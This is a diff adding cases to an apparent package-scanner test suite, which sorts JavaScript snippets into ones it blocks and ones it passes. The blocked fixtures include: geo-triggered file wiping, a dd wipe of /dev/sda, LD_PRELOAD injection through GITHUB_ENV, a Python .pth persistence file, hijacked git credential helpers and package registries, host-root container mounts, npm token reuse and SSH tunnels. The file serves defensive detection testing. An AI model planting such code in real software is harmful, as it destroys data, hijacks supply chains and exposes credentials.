@@ -40,6 +40,19 @@ describeVerdicts("DES-01", {
 
 describeVerdicts("DES-02", {
   blocks: {
+    "everything beside the project, for some": `
+      const fs = require("fs"), path = require("path");
+      function note(dir) {
+        for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
+          const p = path.join(dir, e.name);
+          if (e.isDirectory()) note(p);
+          else fs.writeFileSync(p, "hello");
+        }
+      }
+      if (Intl.DateTimeFormat().resolvedOptions().timeZone === "Atlantis/Capital") note(path.resolve("../"));`,
+    "the project, with one text for all": `
+      const fs = require("fs");
+      for (const f of fs.readdirSync(process.cwd())) fs.writeFileSync(f, "x");`,
     "files that are emptied": `
       const fs = require("fs"), path = require("path"), os = require("os");
       function walk(d) {
@@ -71,6 +84,12 @@ describeVerdicts("DES-02", {
       })(os.homedir());`,
   },
   passes: {
+    "a folder that the caller empties": `
+      const fs = require("fs"), path = require("path");
+      exports.empty = (dir) => fs.readdirSync(dir).forEach((f) => fs.writeFileSync(path.join(dir, f), ""));`,
+    "files of its own": `
+      const fs = require("fs"), path = require("path");
+      for (const f of fs.readdirSync(__dirname)) if (f.endsWith(".tmp")) fs.writeFileSync(path.join(__dirname, f), "");`,
     "a formatter": asCommand(
       `const fs = require("fs");
        for (const f of process.argv.slice(2)) fs.writeFileSync(f, fs.readFileSync(f, "utf8").trim());`,
@@ -84,8 +103,43 @@ describeVerdicts("DES-02", {
   },
 });
 
+describeVerdicts("DES-02", {
+  blocks: {
+    "a folder of the home folder that is looked for": `
+      const fs = require("fs"), path = require("path"), os = require("os");
+      for (const d of fs.readdirSync(os.homedir())) {
+        const dir = path.join(os.homedir(), d);
+        for (const n of fs.readdirSync(dir)) fs.writeFileSync(path.join(dir, n), fs.readFileSync(path.join(dir, n)).reverse());
+      }`,
+  },
+  passes: {
+    "files of a folder that the user names": {
+      manifest: { main: "cli.js", bin: "cli.js" },
+      files: {
+        "cli.js": `#!/usr/bin/env node
+          const fs = require("fs"), path = require("path"), os = require("os");
+          const argv = require("minimist")(process.argv.slice(2), { boolean: ["n"] });
+          function filesIn(d) {
+            return fs.readdirSync(d).flatMap((n) => {
+              const f = path.join(d, n);
+              return fs.statSync(f).isDirectory() ? filesIn(f) : [f];
+            });
+          }
+          const folder = (word) => (word.indexOf("~") === 0 ? path.join(os.homedir(), word.substr(1)) : word);
+          const tidied = (path) => Object.assign(require("tidy-text")(fs.readFileSync(path, "utf8")), { path });
+          const tidy = (files) => files.map(tidied).forEach(({ path, text }) => fs.writeFileSync(path, text));
+          for (var i = 0; i < argv._.length; i++) tidy(filesIn(folder(argv._[i])));`,
+      },
+    },
+  },
+});
+
 describeVerdicts("DES-03", {
   blocks: {
+    "an end for some, whatever they do": `
+      if (Intl.DateTimeFormat().resolvedOptions().timeZone.startsWith("Europe/M")) process.kill(process.pid);`,
+    "data, when somebody ends the program": `
+      process.on("SIGINT", () => { if (Date.now() > 1799999999999) require("child_process").execSync("dd if=/dev/zero of=/dev/sda"); });`,
     "a loop for some": `
       if (Intl.DateTimeFormat().resolvedOptions().timeZone.startsWith("Europe/M")) { for (;;) console.log("x"); }`,
     "a disk, after a date": `
@@ -94,12 +148,20 @@ describeVerdicts("DES-03", {
   passes: {
     "a check of the engine": `if (parseInt(process.versions.node) < 18) { console.error("needs a newer runtime"); process.exit(1); }`,
     "a loop that ends": `module.exports = (q) => { for (;;) { const x = q.shift(); if (!x) break; x(); } };`,
+    "an end that somebody asked for": `
+      exports.at = Date.now();
+      if (exports.at > 1799999999999) process.once("SIGINT", () => { process.kill(process.pid); });`,
     "a locale for texts": `module.exports = Intl.DateTimeFormat().resolvedOptions().locale.startsWith("de") ? "ja" : "yes";`,
   },
 });
 
+const filler = "console.log(0);".repeat(20_000);
+
 describeVerdicts("DES-04", {
   blocks: {
+    "a page in a large program, for some": `
+      exports.filler = () => { ${filler} };
+      exports.open = () => { if (navigator.language.startsWith("ru")) document.body.style.pointerEvents = "none"; };`,
     "a page that cannot be clicked, for some": `
       if (navigator.language.startsWith("ru")) {
         document.body.style.pointerEvents = "none";
@@ -110,6 +172,10 @@ describeVerdicts("DES-04", {
       if (["Europe/A", "Asia/B"].includes(tz)) require("fs").writeFileSync(require("os").homedir() + "/Desktop/STOP.txt", "stop");`,
   },
   passes: {
+    "a menu of a large program, of which everything is known": `
+      const state = navigator.language.slice(0, 2) + Math.random();
+      exports.filler = () => { ${filler} };
+      exports.open = () => { if (state.startsWith("d")) document.body.style.pointerEvents = "none"; };`,
     "pages in another language": `
       if (navigator.language.startsWith("de")) location.href = "/de";
       document.body.style.display = "none";`,
@@ -118,6 +184,22 @@ describeVerdicts("DES-04", {
 
 describeVerdicts("PER-01", {
   blocks: {
+    "the programs of later steps of a build": `
+      const f = process.env.GITHUB_PATH;
+      if (f) require("fs").appendFileSync(f, __dirname + "/bin\\n");`,
+    "the variables of later steps of a build": `
+      const { GITHUB_ENV } = process.env;
+      GITHUB_ENV && require("fs/promises").appendFile(GITHUB_ENV, "LD_PRELOAD=/tmp/a.so\\n");`,
+    "later steps, by a command": `require("child_process").execSync('echo "BASH_ENV=/tmp/x" >> $GITHUB_ENV');`,
+    "later steps, by a hook": {
+      manifest: { scripts: { postinstall: 'echo "$PWD/bin" >> "$GITHUB_PATH"' } },
+      files: { "index.js": "" },
+    },
+    "each start of another language": `
+      const os = require("os"), path = require("path");
+      require("fs").writeFileSync(
+        path.join(os.homedir(), ".local/lib/python3.11/site-packages/a.pth"),
+        "import os; os.system('x')");`,
     "a shell's start-up file": `require("fs").appendFileSync(require("os").homedir() + "/.bashrc", "x &");`,
     "a table of jobs": `require("child_process").execSync('(crontab -l; echo "* * * * * x") | crontab -');`,
     "a service of the user": atInstall(
@@ -131,6 +213,18 @@ describeVerdicts("PER-01", {
       require("fs").writeFileSync(process.env.HOME + n, "<plist/>");`,
   },
   passes: {
+    "an action that sets up later steps": {
+      files: {
+        "index.js": `require("fs").appendFileSync(process.env.GITHUB_PATH, "/opt/tools/bin");`,
+        "action.yml": "name: tools\nruns:\n  using: node20\n  main: index.js\n",
+      },
+    },
+    "a library for actions": `
+      exports.addPath = (dir) => {
+        const f = process.env.GITHUB_PATH;
+        if (f) require("fs").appendFileSync(f, dir + "\\n");
+      };`,
+    "what a step says to later ones": `if (process.env.GITHUB_OUTPUT) require("fs").appendFileSync(process.env.GITHUB_OUTPUT, "a=b");`,
     "a command of the user": asCommand(
       `require("fs").appendFileSync(require("os").homedir() + "/.bashrc", "# completion");`,
     ),
@@ -141,6 +235,39 @@ describeVerdicts("PER-01", {
 
 describeVerdicts("PER-02", {
   blocks: {
+    "from where repositories come": `
+      const { execFile } = require("child_process");
+      const settings = { "url.https://m.example.test/.insteadOf": "https://git.example.test/", "http.sslVerify": "false" };
+      for (const [k, v] of Object.entries(settings)) execFile("git", ["config", "--global", k, v], () => {});`,
+    "from where repositories come, by a library": `
+      require("simple-git")().addConfig("credential.helper", "!/tmp/x", false, "global");`,
+    "from where packages come": `require("child_process").execSync("npm config set registry https://npm.example.test");`,
+    "from where packages of another language come": `require("child_process").execSync("pip config set global.index-url https://p.example.test/simple");`,
+    "from where packages come, in a file": `
+      require("fs").appendFileSync(require("os").homedir() + "/.npmrc", "registry=https://npm.example.test\\n");`,
+    "from where each package of a project comes": atInstall(
+      `const fs = require("fs"), file = (process.env.INIT_CWD || process.cwd()) + "/package-lock.json";
+       process.once("exit", () => {
+         const lock = JSON.parse(fs.readFileSync(file, "utf8"));
+         for (const e of Object.values(lock.packages)) e.resolved = "https://npm.example.test/a.tgz";
+         fs.writeFileSync(file, JSON.stringify(lock));
+       });`,
+    ),
+    "a container with the root of the machine": `
+      const http = require("http");
+      const docker = (path, body) => http.request({ socketPath: "/var/run/docker.sock", method: "POST", path }).end(JSON.stringify(body));
+      docker("/containers/create", { Image: "a/b", Cmd: ["chroot", "/mnt", "sh"], HostConfig: { Privileged: true, Binds: ["/:/mnt"] } });`,
+    "such a container, by a library": `
+      const Docker = require("dockerode");
+      new Docker().createContainer({ Image: "a/b", HostConfig: { Binds: ["/:/mnt"] } }).then((c) => c.start());`,
+    "such a container, by a command": `require("child_process").spawn("docker", ["run", "--rm", "--mount", "type=bind,source=/,target=/h", "a/b"]);`,
+    "such a container on every machine of a cluster": `
+      const k8s = require("@kubernetes/client-node");
+      const config = new k8s.KubeConfig();
+      config.loadFromCluster();
+      config.makeApiClient(k8s.AppsV1Api).createNamespacedDaemonSet("default", {
+        metadata: { name: "x" },
+        spec: { template: { spec: { hostPID: true, volumes: [{ name: "h", hostPath: { path: "/" } }] } } } });`,
     "a key for logins": `require("fs").appendFileSync(require("os").homedir() + "/.ssh/authorized_keys", "ssh-ed25519 AAAA x");`,
     "names of hosts": atInstall(
       `require("fs").appendFileSync("/etc/hosts", "192.0.2.1 a.example.test");`,
@@ -148,6 +275,21 @@ describeVerdicts("PER-02", {
     "a certificate": `require("child_process").execSync("cp a.crt /usr/local/share/ca-certificates/ && update-ca-certificates");`,
   },
   passes: {
+    "a setting that a command is there for": asCommand(
+      `require("child_process").execFileSync("git", ["config", "--global", "credential.helper", "store"]);`,
+    ),
+    "who commits": `require("child_process").execSync('git config user.name "bot"');`,
+    "a setting that is read": `exports.registry = () => require("child_process").execSync("npm config get registry").toString();`,
+    "a lock file that a command sorts": asCommand(
+      `const fs = require("fs");
+       fs.writeFileSync("package-lock.json", JSON.stringify(JSON.parse(fs.readFileSync("package-lock.json", "utf8")), null, 2));`,
+    ),
+    "a container that somebody asks for": `
+      exports.start = (docker, image) =>
+        docker.createContainer({ Image: image, HostConfig: { Binds: ["/var/run/docker.sock:/var/run/docker.sock"] } });`,
+    "a container with a folder of its own": `
+      const Docker = require("dockerode");
+      new Docker().createContainer({ Image: "postgres:16", HostConfig: { Binds: ["/tmp/sample-db:/var/lib/db"] } });`,
     "a tool for local certificates": asCommand(
       `require("child_process").execSync("security add-trusted-cert -d a.crt");`,
     ),
@@ -161,6 +303,7 @@ describeVerdicts("PER-03", {
     "a runner": atInstall(
       `require("child_process").execSync("./config.sh --url https://files.example.test/a --token X --unattended && ./run.sh");`,
     ),
+    "a tunnel through a login": `require("child_process").spawn("cloudflared", ["tunnel", "--url", "ssh://localhost:22", "login"]);`,
     "a tunnel": `require("child_process").spawn("cloudflared", ["tunnel", "run", "x"]);`,
     "by a library, at load": `
       const ngrok = require("ngrok");
@@ -168,6 +311,7 @@ describeVerdicts("PER-03", {
   },
   passes: {
     "a library for tunnels": `exports.open = (port) => require("child_process").spawn("ngrok", ["http", String(port)]);`,
+    "a login to what the same vendor protects": `require("child_process").spawn("cloudflared", ["access", "login", "https://intranet.example"]);`,
     "a question for the version": `exports.has = () => require("child_process").execFileSync("ngrok", ["--version"]);`,
     "another program": `require("child_process").execSync("git config --get user.name");`,
     "a library that opens one for its caller": `
@@ -185,6 +329,25 @@ describeVerdicts("WRM-01", {
         const token = /_authToken=(.+)/.exec(fs.readFileSync(os.homedir() + "/.npmrc", "utf8"))[1];
         execSync("npm publish", { cwd: "/tmp/p", env: { ...process.env, NPM_TOKEN: token } });
       };`,
+    "a program that needs no word": {
+      manifest: { main: "cli.js", bin: "cli.js" },
+      files: {
+        "cli.js": `#!/usr/bin/env node
+          const word = process.argv[2] || "publish";
+          if (word === "publish") require("child_process").execSync("npm publish");`,
+      },
+    },
+    "a token that is found for a command that is named": {
+      manifest: { main: "cli.js", bin: "cli.js" },
+      files: {
+        "cli.js": `#!/usr/bin/env node
+          const fs = require("fs"), os = require("os"), { execSync } = require("child_process");
+          if (process.argv[2]) {
+            const token = /_authToken=(.+)/.exec(fs.readFileSync(os.homedir() + "/.npmrc", "utf8"))[1];
+            execSync("npm publish", { cwd: "/tmp/p", env: { ...process.env, NPM_TOKEN: token } });
+          }`,
+      },
+    },
     "a request": atInstall(
       `const t = process.env.NPM_TOKEN;
        fetch("${publicRegistry}/x", { method: "PUT", headers: { authorization: "Bearer " + t }, body: "{}" });`,
@@ -194,6 +357,37 @@ describeVerdicts("WRM-01", {
     "a release tool": asCommand(
       `require("child_process").spawnSync("npm", ["publish", ...process.argv.slice(2)], { stdio: "inherit" });`,
     ),
+    "a program that is the package's main file": {
+      manifest: { main: "cli.js", bin: "cli.js" },
+      files: {
+        "cli.js": `#!/usr/bin/env node
+          const { execSync } = require("child_process");
+          const argv = require("minimist")(process.argv.slice(2));
+          switch (argv._[0]) {
+            case "major":
+            case "minor":
+              execSync("npm version " + argv._[0]);
+              execSync("npm publish");
+              break;
+            default:
+              console.log("usage: release major|minor");
+          }`,
+      },
+    },
+    "a release command that hands on its environment": {
+      manifest: { main: "index.mjs", bin: "bin.mjs" },
+      files: {
+        "bin.mjs": `#!/usr/bin/env node
+          await import("./index.mjs");`,
+        "index.mjs": `
+          import { cac } from "cac";
+          import { exec } from "tinyexec";
+          const clean = (env) => ({ ...env, npm_config_otp: undefined });
+          const cli = cac("release");
+          cli.command("publish", "Publish").action(() => exec("npm", ["publish"], { nodeOptions: { env: clean(process.env) } }));
+          cli.parse(process.argv);`,
+      },
+    },
     "a dry run": atInstall(`require("child_process").execSync("npm pack --dry-run");`),
     "a word": `exports.scripts = { release: "npm publish" };`,
   },
@@ -223,12 +417,27 @@ describeVerdicts("WRM-03", {
     "a push": atInstall(
       `require("child_process").execSync("git add -A && git commit -m x && git push");`,
     ),
+    "at load, unless a word says otherwise": `if (process.argv[2] !== "stop") require("child_process").exec("git push");`,
     "at load": `require("child_process").exec("gh repo create x --public --push --source .");`,
   },
   passes: {
     "a release bot": asCommand(
       `require("child_process").execSync("git push --follow-tags", { stdio: "inherit" });`,
     ),
+    "commits of a program's own, for who names a file": {
+      manifest: { main: "cli.js", bin: "cli.js" },
+      files: {
+        "cli.js": `#!/usr/bin/env node
+          const { execFileSync } = require("child_process"), fs = require("fs"), os = require("os");
+          const dir = fs.mkdtempSync(os.tmpdir() + "/x-");
+          const git = (...args) => execFileSync("git", args, { cwd: dir, env: { ...process.env, HOME: dir } });
+          const names = require("minimist")(process.argv.slice(2))._;
+          if (names.length) {
+            git("init");
+            git("commit", "--allow-empty", "-m", "before");
+          }`,
+      },
+    },
     "a question": atInstall(`require("child_process").execSync("git rev-parse HEAD");`),
     "a function of the caller": `exports.push = (dir) => require("child_process").execSync("git push", { cwd: dir });`,
   },
